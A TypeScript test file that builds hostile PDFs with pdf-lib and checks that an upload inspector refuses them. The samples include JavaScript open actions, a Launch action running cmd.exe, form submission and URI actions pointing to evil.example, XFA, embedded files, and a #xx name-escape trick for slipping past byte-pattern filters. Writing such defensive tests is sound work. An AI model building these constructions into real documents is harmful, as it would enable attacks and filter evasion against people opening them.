// PDFs are judged by a parser (issue 33, defect 5: a pattern over the raw bytes let through /J#61vaScript, scripts in
// compressed object streams, /Launch, /SubmitForm, /AA, /XFA and embedded files). The hostile corpus is made here,
// with pdf-lib itself: each PDF is saved with object streams (compressed), and where the attack is in the spelling,
// its bytes are rewritten afterwards.
import { PDFDocument, PDFName, PDFString, type PDFDict } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { inspectPdf, pdfRefusal, type PdfFinding } from '@/lib/medien/pdf-check';
import { processUpload } from '@/lib/medien/process-upload';

type Build = (doc: PDFDocument) => void;

async function pdf(build: Build = () => undefined, { objectStreams = true } = {}): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage();
  build(doc);
  return Buffer.from(await doc.save({ useObjectStreams: objectStreams }));
}

const action = (doc: PDFDocument, entries: Record<string, unknown>) => doc.context.obj(entries as never);
const page = (doc: PDFDocument): PDFDict => doc.getPage(0).node;

const HOSTILE: [string, PdfFinding, Build][] = [
  [
    'JavaScript on opening, in a compressed object stream',
    'javascript',
    (doc) =>
      doc.catalog.set(PDFName.of('OpenAction'), action(doc, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') })),
  ],
  [
    'document-level JavaScript in the name tree',
    'javascript',
    (doc) =>
      doc.catalog.set(
        PDFName.of('Names'),
        action(doc, {
          JavaScript: action(doc, {
            Names: [PDFString.of('a'), action(doc, { S: 'JavaScript', JS: PDFString.of('x') })],
          }),
        }),
      ),
  ],
  [
    'a Launch action on a link',
    'programm',
    (doc) =>
      page(doc).set(
        PDFName.of('Annots'),
        doc.context.obj([
          action(doc, {
            Type: 'Annot',
            Subtype: 'Link',
            Rect: [0, 0, 10, 10],
            A: action(doc, { S: 'Launch', F: PDFString.of('cmd.exe') }),
          }),
        ]),
      ),
  ],
  [
    'a SubmitForm action',
    'formular',
    (doc) =>
      page(doc).set(
        PDFName.of('Annots'),
        doc.context.obj([
          action(doc, {
            Type: 'Annot',
            Subtype: 'Link',
            Rect: [0, 0, 10, 10],
            A: action(doc, { S: 'SubmitForm', F: PDFString.of('https://evil.example') }),
          }),
        ]),
      ),
  ],
  [
    'additional actions (/AA) of a page',
    'automatisch',
    (doc) => page(doc).set(PDFName.of('AA'), action(doc, { O: action(doc, { S: 'GoTo', D: [0] }) })),
  ],
  [
    'an OpenAction that opens a web address',
    'automatisch',
    (doc) =>
      doc.catalog.set(PDFName.of('OpenAction'), action(doc, { S: 'URI', URI: PDFString.of('https://evil.example') })),
  ],
  [
    'an XFA form',
    'xfa',
    (doc) => doc.catalog.set(PDFName.of('AcroForm'), action(doc, { Fields: [], XFA: PDFString.of('<xdp/>') })),
  ],
  [
    'an embedded file',
    'datei',
    (doc) => doc.catalog.set(PDFName.of('Names'), action(doc, { EmbeddedFiles: action(doc, { Names: [] }) })),
  ],
];

describe('hostile PDFs', () => {
  it.each(HOSTILE)('refuses %s', async (_name, finding, build) => {
    const bytes = await pdf(build);
    expect(await inspectPdf(bytes)).toBe(finding);
    expect(await processUpload(bytes)).toEqual({ ok: false, message: pdfRefusal(finding) });
  });

  it('refuses a script whose name is spelt with #xx escapes (/J#61vaScript, /J#53)', async () => {
    const plain = await pdf(
      (doc) =>
        doc.catalog.set(PDFName.of('OpenAction'), action(doc, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') })),
      { objectStreams: false },
    );
    // Same length, so the cross-reference table stays right: the two escapes' four extra bytes are the dropped line
    // breaks and spaces of the dictionary.
    const before = '<<\n/S /JavaScript\n/JS ';
    const after = '<</S/J#61vaScript/J#53';
    expect(after.length).toBe(before.length);
    const text = plain.toString('latin1').replace(before, after);
    const escaped = Buffer.from(text, 'latin1');
    expect(escaped.length).toBe(plain.length);
    expect(escaped.includes(Buffer.from('/JavaScript'))).toBe(false);
    expect(await inspectPdf(escaped)).toBe('javascript');
  });

  it('refuses what it cannot look into: an encrypted file, a file without pages', async () => {
    const text = (await pdf(() => undefined, { objectStreams: false })).toString('latin1');
    const encrypted = Buffer.from(text.replace('trailer\n<<', 'trailer\n<<\n/Encrypt 1 0 R'), 'latin1');
    expect(await inspectPdf(encrypted)).toBe('unlesbar');
    expect(await inspectPdf(Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF'))).toBe('unlesbar');
    expect(await processUpload(Buffer.from('%PDF-1.7\nnur Text'))).toEqual({
      ok: false,
      message: pdfRefusal('unlesbar'),
    });
  });
});

describe('harmless PDFs', () => {
  it('accepts a plain document, and one that opens at a page', async () => {
    expect(await inspectPdf(await pdf())).toBeNull();
    const atPage = await pdf((doc) =>
      doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj([doc.getPage(0).ref, PDFName.of('Fit')])),
    );
    expect(await inspectPdf(atPage)).toBeNull();
    expect(await processUpload(atPage)).toMatchObject({ ok: true, kind: 'dokument' });
  });
});
